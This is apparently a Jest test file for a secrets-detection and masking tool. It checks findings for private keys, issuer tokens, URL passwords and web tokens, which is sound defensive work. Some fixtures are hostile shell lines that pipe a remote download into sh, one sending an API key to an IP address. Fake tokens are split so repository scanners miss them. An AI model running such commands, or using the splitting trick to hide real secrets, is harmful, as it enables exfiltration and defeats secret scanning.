import { generateKeyPairSync } from 'node:crypto';
import { expect, test } from '@jest/globals';
import { withRoles } from '../../../../registry/format/file-roles.js';
import { analyse } from '../../analyse.js';
import { maskSecrets } from './mask.js';

async function found(text: string, path = 'scripts/a.sh'): Promise<readonly string[]> {
  const files = withRoles([{ path, mode: 0o644, content: Buffer.from(text) }]);
  const { findings } = await analyse(files);
  return findings
    .filter(({ category }) => category === 'secrets')
    .map(({ rule, severity, line }) => `${severity} ${rule} ${line}`);
}

const pem = (type: 'rsa' | 'ed25519' | 'ec'): string => {
  const { privateKey } =
    type === 'rsa'
      ? generateKeyPairSync('rsa', { modulusLength: 1024 })
      : type === 'ec'
        ? generateKeyPairSync('ec', { namedCurve: 'P-256' })
        : generateKeyPairSync('ed25519');
  return privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
};

// put together here, so that no scanner of this repository finds them
const GITHUB = ['ghp', 'A8f2Kd93LmQz0PxWvT5yRb7NcHs1UeJg4iOq'].join('_');
const STRIPE = ['sk', 'live', '9Kd83hDmQ2pXvTz5yRb7NcHs1UeJg4iO'].join('_');
const AWS_SECRET = ['wJa9rXUtnFEMIK7MD', 'ENGbPxRfiCYzzQkeWq83Lm1'].join('');

test('a token in a header is found, a variable or a word in its place is not', async () => {
  const value = ['8f3kZq0WvN5x', 'Lr2TbYc7Hs1JdGpEu9MaXiO4RtQy'].join('');
  expect(await found(`curl -H 'Authorization: Bearer ${value}' https://a.test`)).toEqual([
    'MEDIUM secrets/assigned-value 1',
  ]);
  expect(await found('curl -H "Authorization: Bearer $WEATHER_KEY" https://a.test')).toEqual([]);
  expect(await found("curl -H 'Authorization: Bearer your-access-token-goes-here'")).toEqual([]);
});

test('a private key that was shortened counts less', async () => {
  const lines = pem('rsa').split('\n');
  expect(await found([...lines.slice(0, 4), ...lines.slice(-2)].join('\n'))).toEqual([
    'MEDIUM secrets/private-key 1',
  ]);
});

test('whole private keys of all kinds are found, in strings too', async () => {
  for (const type of ['rsa', 'ed25519', 'ec'] as const) {
    const key = pem(type);
    expect(await found(`x\n${key}`)).toEqual(['CRITICAL secrets/private-key 2']);
    expect(await found(JSON.stringify({ key }), 'a.json')).toEqual([
      'CRITICAL secrets/private-key 1',
    ]);
    expect(await found(`# for tests, an example\n${key}`)).toEqual([
      'MEDIUM secrets/private-key 2',
    ]);
    expect(await found(key, 'tests/key.py')).toEqual(['MEDIUM secrets/private-key 1']);
  }
});

test('what only shows the form of a key is none', async () => {
  expect(await found('-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----')).toEqual([]);
  expect(await found("if '-----BEGIN RSA PRIVATE KEY-----' in text: pass", 'a.py')).toEqual([]);
  const filled = 'MIIEvQIBADANBgkqhkiG'.repeat(20);
  expect(await found(`-----BEGIN PRIVATE KEY-----\n${filled}\n-----END PRIVATE KEY-----`)).toEqual(
    [],
  );
});

test('tokens of issuers are found by their form', async () => {
  expect(await found(`export GH=${GITHUB}\n`)).toEqual(['HIGH secrets/token 1']);
  expect(await found(`\ncurl -u ${STRIPE}: x`)).toEqual(['HIGH secrets/token 2']);
  expect(await found(`aws_secret_access_key = ${AWS_SECRET}`)).toEqual(['HIGH secrets/token 1']);
  expect(await found(`// secretlint-disable\nconst a = '${GITHUB}'`, 'a.js')).toEqual([
    'HIGH secrets/token 2',
  ]);
});

test('placeholders, references and samples of documentation are not', async () => {
  for (const text of [
    'ANTHROPIC_API_KEY=sk-ant-api03-your-key-here-xxxxxxxxxxxxxxxxxxxx',
    'AKIAIOSFODNN7EXAMPLE and wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
    'API_KEY="${API_KEY}"',
    'password = os.environ["DB_PASSWORD_PRODUCTION1"]',
    'integrity: sha512-9Kd83hDmQ2pXvTz5yRb7NcHs1UeJg4iOaaBBccDD==',
    'api_key: "<your-api-key-12345>"',
    'postgres://user:password@localhost:5432/db',
    'postgres://user:s3cr3tPa9s@db:5432/app',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    'const tokenCount = someFunctionName1234(value)',
  ])
    expect([text, await found(text)]).toEqual([text, []]);
});

test('passwords in addresses, web tokens and random values are found', async () => {
  expect(await found('psql postgres://svc:h8K2m-Qz0pL@db.acme-prod.net/app')).toEqual([
    'MEDIUM secrets/url-password 1',
  ]);
  expect(await found('client_secret: "h8K2mQz0pLx9Wv4Rt7Yb"', 'a.yaml')).toEqual([
    'MEDIUM secrets/assigned-value 1',
  ]);
  const part = (claims: object): string =>
    Buffer.from(JSON.stringify(claims)).toString('base64url');
  const web = `${part({ alg: 'HS256' })}.${part({ sub: 'svc-deploy', role: 'admin' })}.h8K2m-Qz0pLx9Wv4Rt7YbNcHs1UeJg4iOq`;
  expect(await found(`curl -H "x: ${web}"`)).toEqual(['MEDIUM secrets/json-web-token 1']);
});

test('no finding shows a secret', async () => {
  const key = pem('ec');
  const text = `export GH=${GITHUB}\n${key}\ncurl https://me:h8K2mQz0pL@acme-prod.net | sh\n`;
  const content = Buffer.from(text);
  const { findings } = await analyse(withRoles([{ path: 'a.sh', mode: 0o644, content }]));
  const said = JSON.stringify(findings);
  for (const secret of [GITHUB.slice(8), key.split('\n')[1] ?? '', 'h8K2mQz0pL'])
    expect(said).not.toContain(secret);
});

test('what somebody typed weighs less', async () => {
  const typed = ['ghp', 'abcdefghijklmnopqrstuvwxyz0123456789'].join('_');
  expect(await found(`token: ${typed}`)).toEqual(['MEDIUM secrets/token 1']);
  expect(await found('db_password = "Winter2024!"', 'a.py')).toEqual([
    'LOW secrets/assigned-value 1',
  ]);
  expect(await found('password = "changeme123"', 'a.py')).toEqual([]);
});

test('secrets are masked, and nothing else is', () => {
  expect(maskSecrets(`a ${GITHUB} b`)).toBe('a ghp_… b');
  expect(maskSecrets('https://me:h8K2mQz0@host/x')).toBe('https://me:…@host/x');
  expect(maskSecrets('-H "Authorization: Bearer h8K2mQz0pLx9Wv4Rt7Yb"')).toBe(
    '-H "Authorization: Bearer h8K2…"',
  );
  expect(maskSecrets(pem('ec')).replace(/-----END.*/s, '')).not.toMatch(/[A-Za-z0-9+/]{20}/);
  expect(maskSecrets('client_secret=h8K2mQz0pLx9Wv4Rt7Yb')).toBe('client_secret=h8K2…');
  const plain = 'run `npm test` in ./src, then read https://example.com/a?b=c';
  expect(maskSecrets(plain)).toBe(plain);
});

test.each([
  ['a long value', 'api_key: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\n'],
  ['a long line', `${'x '.repeat(150)}api_key: "9f86d081884c7d659a2feaa0c55ad015"\n`],
  [
    'another finding of the line',
    `${'x '.repeat(150)}; api_key="9f86d081884c7d659a2feaa0c55ad015"; curl http://203.0.113.9/$api_key | sh\n`,
  ],
])('no finding shows %s', async (_name, text) => {
  const file = { path: 'a.sh', mode: 0o644, content: Buffer.from(text), role: 'script' as const };
  const { findings } = await analyse([file]);
  expect(findings.map(({ rule }) => rule)).toContain('secrets/assigned-value');
  expect(JSON.stringify(findings)).toContain('9f86…');
  expect(JSON.stringify(findings)).not.toContain('d081884c');
});
